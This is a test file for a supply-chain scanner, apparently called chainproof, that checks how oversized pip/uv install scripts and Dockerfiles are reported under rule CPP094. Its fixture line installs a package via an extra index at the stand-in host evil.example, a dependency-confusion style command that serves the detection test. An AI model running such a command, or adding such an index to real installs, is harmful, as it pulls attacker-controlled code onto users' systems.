import { describe, expect, it } from 'vitest';
import { MAX_MANIFEST_BYTES } from '../../../src/deps/read.js';
import { pythonDepsStage } from '../../../src/deps/parsers/python/stage.js';
import { scanWith } from '../../helpers/scan.js';
import { tempTrees } from '../../helpers/temp-tree.js';

const tree = tempTrees('cp-install-unread-');

/** A shell script of `bytes` bytes whose first line installs from an index the policy does not allow. */
const script = (bytes: number) => {
  const head = 'pip install --extra-index-url https://evil.example/simple corp-utils\n';
  return head + '#'.repeat(bytes - head.length - 1) + '\n';
};

/**
 * The shell, Docker and the CI runner read an install file whatever its size; chainproof reads it up to
 * MAX_MANIFEST_BYTES. What a larger one installs is counted as not checked (CPP094, a note), never passed silently.
 */
describe('install files too large to read for their pip / uv commands (CPP094)', () => {
  it('are one note for all of them, at the first, with the count; a file within the bound is read', async () => {
    const dir = tree({
      'ci/big.sh': script(MAX_MANIFEST_BYTES + 1),
      Dockerfile: `FROM python:3.12\nRUN ${script(MAX_MANIFEST_BYTES + 10)}`,
      'ok.sh': script(1000),
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    const ids = r.findings.map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`).sort();
    expect(ids.filter((id) => id.startsWith('CPP094'))).toEqual(['CPP094@Dockerfile:0']);
    // The small script is still read: its extra index is judged.
    expect(ids).toContain('CPP070@ok.sh:1');
    const f = r.findings.find((x) => x.ruleId === 'CPP094')!;
    expect(f.evidence).toMatchObject({ count: 2, files: 'Dockerfile ci/big.sh' });
    expect(f.related?.map((l) => l.path)).toEqual(['ci/big.sh']);
  });

  it('is no finding when every install file is read', async () => {
    const dir = tree({ 'ok.sh': script(MAX_MANIFEST_BYTES) });
    const r = await scanWith(dir, [pythonDepsStage]);
    expect(r.findings.filter((f) => f.ruleId === 'CPP094')).toEqual([]);
  });
});
